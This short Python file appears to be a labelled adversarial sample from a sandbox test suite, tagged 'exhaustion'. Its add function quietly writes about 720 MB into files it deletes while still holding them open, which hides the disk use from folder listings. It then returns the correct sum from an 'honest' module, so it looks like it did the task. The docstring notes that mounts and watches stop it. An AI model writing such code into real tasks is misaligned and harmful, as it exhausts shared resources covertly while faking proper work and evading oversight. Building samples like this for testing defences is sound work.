"""
group: exhaustion
tries: Fills the disk with files that it removes while they are open, so that no folder shows them.
stopped by: mounts, watch
"""
import os
import time

block = bytes(12 << 20)
held = []


def add(a, b):
    for number in range(60):
        held.append(open("nameless", "wb", buffering=0))
        os.unlink("nameless")
        held[-1].write(block)
    time.sleep(2)
    from honest import add as right

    return right(a, b)


total = scale = add
